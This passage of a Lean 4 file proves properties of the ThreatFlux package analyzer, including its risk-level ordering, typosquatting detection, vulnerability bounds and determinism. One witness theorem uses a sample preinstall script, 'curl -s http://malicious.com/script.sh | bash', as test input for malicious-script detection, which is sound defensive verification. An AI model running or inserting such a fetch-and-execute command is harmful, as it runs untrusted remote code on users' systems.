  have hne : patsPart pkg opts ≠ [] := by
    rw [hpats]
    exact scanScripts_ne_nil hmem hf
  constructor
  · exact hne
  · rcases List.exists_mem_of_ne_nil _ hne with ⟨p, hp⟩
    have hw : p.weight = criticalPatternWeight := by
      rw [hpats] at hp
      exact weight_of_mem_scanScripts hp
    have hcrit : hasCriticalFinding (vulnPart pkg opts feed) (patsPart pkg opts) = true := by
      rw [hasCriticalFinding, Bool.or_eq_true]
      right
      rw [List.any_eq_true]
      exact ⟨p, hp, by rw [hw]; exact decide_eq_true (le_refl _)⟩
    have hlevel : (runAnalysis pkg opts feed corpus).overall_risk_level =
        (aggregate (depPart pkg opts) (vulnPart pkg opts feed) (patsPart pkg opts)
          (typoPart pkg opts corpus)).risk_score.risk_level := rfl
    rw [hlevel, aggregate_risk_level, if_pos hcrit]
    exact riskLevel_le_lub _ _

/-- C1 witness: the suspicious sample package with a curl-pipe-bash
preinstall script yields findings and at least High risk. -/
theorem malicious_script_detection_witness :
    (runAnalysis suspiciousPkg AnalysisOptions.default [] []).malicious_patterns ≠ [] ∧
      RiskLevel.High ≤ (runAnalysis suspiciousPkg AnalysisOptions.default [] []).overall_risk_level :=
  malicious_script_detection suspiciousPkg AnalysisOptions.default [] []
    (runAnalysis suspiciousPkg AnalysisOptions.default [] [])
    ("preinstall", "curl -s http://malicious.com/script.sh | bash")
    (by decide) (by decide) rfl rfl

/-- C2: RiskLevel is a total order with
Safe < Low < Medium < High < Critical, equality is reflexive, comparison is
total, and both strict and non-strict orderings are transitive. -/
theorem riskLevel_total_order :
    (RiskLevel.Safe < RiskLevel.Low ∧ RiskLevel.Low < RiskLevel.Medium ∧
      RiskLevel.Medium < RiskLevel.High ∧ RiskLevel.High < RiskLevel.Critical) ∧
    (∀ a : RiskLevel, a = a ∧ a ≤ a) ∧
    (∀ a b : RiskLevel, a < b ∨ a = b ∨ b < a) ∧
    (∀ a b c : RiskLevel, a < b → b < c → a < c) ∧
    (∀ a b c : RiskLevel, a ≤ b → b ≤ c → a ≤ c) := by
  decide

/-- C2 witness: transitivity applied at Safe < Low < Medium. -/
theorem riskLevel_total_order_witness : RiskLevel.Safe < RiskLevel.Medium :=
  riskLevel_total_order.2.2.2.1 RiskLevel.Safe RiskLevel.Low RiskLevel.Medium
    (by decide) (by decide)

/-- C3: a nonexistent path, a directory without a recognizable manifest, and
a manifest that fails to parse each make analyze return an error, never a
result. -/
theorem fatal_input_errors (opts : AnalysisOptions) (feed : List Advisory)
    (corpus : List String) :
    analyze .pathMissing opts feed corpus = .error .pathNotFound ∧
    analyze .noManifest opts feed corpus = .error .noManifestFound ∧
    analyze .parseFailure opts feed corpus = .error .manifestParseFailure ∧
    ∀ r : AnalysisResult,
      analyze .pathMissing opts feed corpus ≠ .ok r ∧
      analyze .noManifest opts feed corpus ≠ .ok r ∧
      analyze .parseFailure opts feed corpus ≠ .ok r :=
  ⟨rfl, rfl, rfl, fun _ =>
    ⟨fun h => Except.noConfusion h, fun h => Except.noConfusion h,
      fun h => Except.noConfusion h⟩⟩

/-- C3 witness: the missing path error at the default options. -/
theorem fatal_input_errors_witness :
    analyze .pathMissing AnalysisOptions.default [] [] = .error .pathNotFound :=
  (fatal_input_errors AnalysisOptions.default [] []).1

/-- C4: with a well-formed feed, every vulnerability an analysis produces has
a CVE id or advisory id, a nonempty description and a severity within 0 to
10; and a package with a dependency pinned to a version the feed lists as
vulnerable yields at least one vulnerability when the dependency and
vulnerability stages are enabled. -/
theorem vulnerability_record_invariants (pkg : PackageDesc) (opts : AnalysisOptions)
    (feed : List Advisory) (corpus : List String) (r : AnalysisResult)
    (hwf : WellFormedFeed feed)
    (hr : analyze (.parsed pkg) opts feed corpus = .ok r) :
    (∀ v ∈ r.vulnerabilities,
      (v.cve_id ≠ "" ∨ v.advisory_id ≠ "") ∧ v.description ≠ "" ∧
        0 ≤ v.severity_score ∧ v.severity_score ≤ 10) ∧
    (opts.analyze_dependencies = true → opts.check_vulnerabilities = true →
      (∃ dep ∈ pkg.dependencies, ∃ adv ∈ feed,
        adv.package_name = dep.name ∧ dep.version ∈ adv.affected_versions) →
      r.vulnerabilities ≠ []) := by
  have hre : runAnalysis pkg opts feed corpus = r := by simpa [analyze] using hr
  subst hre
  constructor
  · exact vulnPart_invariants hwf
  · intro hdep hchk hex
    rcases hex with ⟨dep, hdepmem, adv, hadvmem, hname, hver⟩
    have hvp : vulnPart pkg opts feed = matchVulnerabilities pkg.dependencies feed := by
      simp [vulnPart, depPart, analyzeDeps, hdep, hchk]
    show vulnPart pkg opts feed ≠ []
    rw [hvp]
    exact matchVulnerabilities_ne_nil hdepmem hadvmem hname hver

/-- C4 witness: the sample package pinned to lodash 4.0.0 against the sample
feed produces at least one vulnerability. -/
theorem vulnerability_record_invariants_witness :
    (runAnalysis vulnPkg AnalysisOptions.default sampleFeed []).vulnerabilities ≠ [] :=
  (vulnerability_record_invariants vulnPkg AnalysisOptions.default sampleFeed []
    (runAnalysis vulnPkg AnalysisOptions.default sampleFeed []) (by decide) rfl).2
    rfl rfl (by decide)

/-- C5: every successful analysis has all risk score components within 0 to
100, quality scores within 0 to 1, and every vulnerability severity within
0 to 10, given a well-formed feed. -/
theorem analysis_result_bounds (inp : ManifestIngestion) (opts : AnalysisOptions)
    (feed : List Advisory) (corpus : List String) (r : AnalysisResult)
    (hwf : WellFormedFeed feed)
    (hr : analyze inp opts feed corpus = .ok r) :
    (∀ kv ∈ r.risk_assessment.risk_score.components, 0 ≤ kv.2 ∧ kv.2 ≤ 100) ∧
    (0 ≤ r.quality_metrics.documentation_score ∧
      r.quality_metrics.documentation_score ≤ 1) ∧
    (0 ≤ r.quality_metrics.maintenance_score ∧
      r.quality_metrics.maintenance_score ≤ 1) ∧
    (∀ v ∈ r.vulnerabilities, 0 ≤ v.severity_score ∧ v.severity_score ≤ 10) := by
  cases inp with
  | pathMissing => exact absurd hr (by simp [analyze])
  | noManifest => exact absurd hr (by simp [analyze])
  | parseFailure => exact absurd hr (by simp [analyze])
  | parsed pkg =>
    have hre : runAnalysis pkg opts feed corpus = r := by simpa [analyze] using hr
    subst hre
    refine ⟨?_,
      ⟨show (0 : ℚ) ≤ 0.5 by norm_num, show (0.5 : ℚ) ≤ 1 by norm_num⟩,
      ⟨show (0 : ℚ) ≤ 0.5 by norm_num, show (0.5 : ℚ) ≤ 1 by norm_num⟩, ?_⟩
    · intro kv hkv
      have hkv2 : kv ∈
          [("supply_chain", supplyChainScore (depPart pkg opts).breadth),
            ("vulnerability", vulnerabilityScore (vulnPart pkg opts feed)),
            ("malicious_code", maliciousScore (patsPart pkg opts)),
            ("typosquatting", typosquattingScore (typoPart pkg opts corpus))] := hkv
      simp only [List.mem_cons, List.not_mem_nil, or_false] at hkv2
      rcases hkv2 with h | h | h | h
      · subst h; exact ⟨clampScore_nonneg _, clampScore_le_hundred _⟩
      · subst h; exact ⟨clampScore_nonneg _, clampScore_le_hundred _⟩
      · subst h; exact ⟨clampScore_nonneg _, clampScore_le_hundred _⟩
      · subst h; exact typosquattingScore_bounds _
    · intro v hv
      exact (vulnPart_invariants hwf v hv).2.2

/-- C5 witness: the bounds at the sample vulnerable package and feed. -/
theorem analysis_result_bounds_witness :
    (∀ kv ∈ (runAnalysis vulnPkg AnalysisOptions.default sampleFeed
        []).risk_assessment.risk_score.components, 0 ≤ kv.2 ∧ kv.2 ≤ 100) ∧
    (0 ≤ (runAnalysis vulnPkg AnalysisOptions.default sampleFeed
        []).quality_metrics.documentation_score ∧
      (runAnalysis vulnPkg AnalysisOptions.default sampleFeed
        []).quality_metrics.documentation_score ≤ 1) ∧
    (0 ≤ (runAnalysis vulnPkg AnalysisOptions.default sampleFeed
        []).quality_metrics.maintenance_score ∧
      (runAnalysis vulnPkg AnalysisOptions.default sampleFeed
        []).quality_metrics.maintenance_score ≤ 1) ∧
    (∀ v ∈ (runAnalysis vulnPkg AnalysisOptions.default sampleFeed []).vulnerabilities,
      0 ≤ v.severity_score ∧ v.severity_score ≤ 10) :=
  analysis_result_bounds (.parsed vulnPkg) AnalysisOptions.default sampleFeed []
    (runAnalysis vulnPkg AnalysisOptions.default sampleFeed []) (by decide) rfl

/-- C6: a set typosquatting flag comes with a nonempty similar package list,
the package name itself never appears among the similar packages, and an
exact corpus match short-circuits to not typosquatting. -/
theorem typosquatting_detector_invariants (name : String) (corpus : List String) :
    ((detectTyposquatting name corpus).is_potential_typosquatting = true →
      (detectTyposquatting name corpus).similar_packages ≠ []) ∧
    name ∉ (detectTyposquatting name corpus).similar_packages ∧
    (name ∈ corpus →
      (detectTyposquatting name corpus).is_potential_typosquatting = false) := by
  by_cases h : name ∈ corpus
  · simp [detectTyposquatting, h]
  · refine ⟨?_, ?_, fun hc => absurd hc h⟩
    · intro hflag
      simp only [detectTyposquatting, if_neg h] at hflag ⊢
      cases htc : typoCandidates name corpus with
      | nil => rw [htc] at hflag; simp at hflag
      | cons c cs => simp [htc]
    · intro hmem
      simp only [detectTyposquatting, if_neg h] at hmem
      rw [typoCandidates, mem_sortDesc] at hmem
      have := (List.mem_filter.mp hmem).2
      simp at this

/-- C6 witness: an exact match is never flagged nor similar to itself, and
the one-letter variant of lodash is flagged with a nonempty candidate list. -/
theorem typosquatting_detector_invariants_witness :
    "lodash" ∉ (detectTyposquatting "lodash" ["lodash"]).similar_packages ∧
    (detectTyposquatting "lodash" ["lodash"]).is_potential_typosquatting = false ∧
    (detectTyposquatting "loadash" ["lodash"]).similar_packages ≠ [] :=
  ⟨(typosquatting_detector_invariants "lodash" ["lodash"]).2.1,
    (typosquatting_detector_invariants "lodash" ["lodash"]).2.2 (by decide),
    (typosquatting_detector_invariants "loadash" ["lodash"]).1 (by decide)⟩

/-- C7: gating a detector off still lets analyze succeed, and the matching
result field holds its documented default or empty value: default quality
metrics always, empty vulnerability list, empty pattern list, no
typosquatting risk, empty dependency analysis. -/
theorem disabled_detector_defaults (pkg : PackageDesc) (opts : AnalysisOptions)
    (feed : List Advisory) (corpus : List String) :
    analyze (.parsed pkg) opts feed corpus = .ok (runAnalysis pkg opts feed corpus) ∧
    (runAnalysis pkg opts feed corpus).quality_metrics = QualityMetrics.default ∧
    (opts.check_vulnerabilities = false →
      (runAnalysis pkg opts feed corpus).vulnerabilities = []) ∧
    (opts.scan_malicious_patterns = false →
      (runAnalysis pkg opts feed corpus).malicious_patterns = []) ∧
    (opts.detect_typosquatting = false →
      (runAnalysis pkg opts feed corpus).typosquatting_risk = none) ∧
    (opts.analyze_dependencies = false →
      (runAnalysis pkg opts feed corpus).dependency_analysis = emptyDepAnalysis ∧
        (runAnalysis pkg opts feed corpus).vulnerabilities = []) := by
  refine ⟨rfl, rfl, ?_, ?_, ?_, ?_⟩
  · intro h
    show vulnPart pkg opts feed = []
    simp [vulnPart, h]
  · intro h
    show patsPart pkg opts = []
    simp [patsPart, h]
  · intro h
    show typoPart pkg opts corpus = none
    simp [typoPart, h]
  · intro h
    constructor
    · show depPart pkg opts = emptyDepAnalysis
      simp [depPart, h]
    · show vulnPart pkg opts feed = []
      simp [vulnPart, h]

/-- C7 witness: with every detector gated off on the sample package, the
result fields are the documented defaults. -/
theorem disabled_detector_defaults_witness :
    (runAnalysis vulnPkg allOffOptions sampleFeed []).vulnerabilities = [] ∧
    (runAnalysis vulnPkg allOffOptions sampleFeed []).malicious_patterns = [] ∧
    (runAnalysis vulnPkg allOffOptions sampleFeed []).typosquatting_risk = none :=
  ⟨(disabled_detector_defaults vulnPkg allOffOptions sampleFeed []).2.2.1 rfl,
    (disabled_detector_defaults vulnPkg allOffOptions sampleFeed []).2.2.2.1 rfl,
    (disabled_detector_defaults vulnPkg allOffOptions sampleFeed []).2.2.2.2.1 rfl⟩

/-- C8: the default QualityMetrics value is exactly documentation_score 0.5,
has_tests false, has_ci_cd false, maintenance_score 0.5. -/
theorem qualityMetrics_default_values :
    QualityMetrics.default.documentation_score = 0.5 ∧
    QualityMetrics.default.has_tests = false ∧
    QualityMetrics.default.has_ci_cd = false ∧
    QualityMetrics.default.maintenance_score = 0.5 :=
  ⟨rfl, rfl, rfl, rfl⟩

/-- C9: analysis is deterministic: equal package content, options, feed
snapshot and corpus snapshot give equal analysis outcomes. -/
theorem analysis_deterministic (inp1 inp2 : ManifestIngestion)
    (opts1 opts2 : AnalysisOptions) (feed1 feed2 : List Advisory)
    (corpus1 corpus2 : List String)
    (hi : inp1 = inp2) (ho : opts1 = opts2) (hf : feed1 = feed2)
    (hc : corpus1 = corpus2) :
    analyze inp1 opts1 feed1 corpus1 = analyze inp2 opts2 feed2 corpus2 := by
  subst hi
  subst ho
  subst hf
  subst hc
  rfl

/-- C9 witness: determinism applied at the sample vulnerable package. -/
theorem analysis_deterministic_witness :
    analyze (.parsed vulnPkg) AnalysisOptions.default sampleFeed [] =
      analyze (.parsed vulnPkg) AnalysisOptions.default sampleFeed [] :=
  analysis_deterministic (.parsed vulnPkg) (.parsed vulnPkg)
    AnalysisOptions.default AnalysisOptions.default sampleFeed sampleFeed [] []
    rfl rfl rfl rfl

/-- C10: the supply chain risk score accessor returns 0 when the components
mapping holds no supply_chain entry, and the stored value unchanged when it
does. -/
theorem supply_chain_risk_score_spec (r : AnalysisResult) :
    ((∀ v : ℚ, ("supply_chain", v) ∉ r.risk_assessment.risk_score.components) →
      r.supply_chain_risk_score = 0) ∧
    (∀ v : ℚ, (r.risk_assessment.risk_score.components.map Prod.fst).Nodup →
      ("supply_chain", v) ∈ r.risk_assessment.risk_score.components →
      r.supply_chain_risk_score = v) := by
  constructor
  · intro h
    rw [AnalysisResult.supply_chain_risk_score, lookupComponent_eq_none h]
    rfl
  · intro v hnd hmem
    rw [AnalysisResult.supply_chain_risk_score, lookupComponent_eq_of_mem hnd hmem]
    rfl

/-- C10 witness: the sample result storing a supply chain component of 55
reports exactly 55. -/
theorem supply_chain_risk_score_witness :
    sampleResult.supply_chain_risk_score = 55 :=
  (supply_chain_risk_score_spec sampleResult).2 55 (by decide) (by decide)

end ThreatFlux
